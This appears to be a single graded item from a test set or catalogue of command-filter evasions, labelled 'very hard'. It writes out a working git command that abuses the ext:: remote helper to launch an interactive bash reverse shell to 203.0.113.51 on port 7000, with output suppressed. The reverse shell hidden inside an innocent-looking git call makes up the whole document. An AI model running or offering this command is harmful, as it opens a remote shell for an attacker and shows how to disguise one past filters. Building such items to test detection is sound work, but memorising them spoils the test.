# evasion: git's ext:: remote helper runs its URL as a command when protocol.ext.allow is set
# grade: very hard; does: shell
git -c protocol.ext.allow=always ls-remote \
	'ext::sh -c bash% -i% >&% /dev/tcp/203.0.113.51/7000% 0>&1' >/dev/null 2>&1
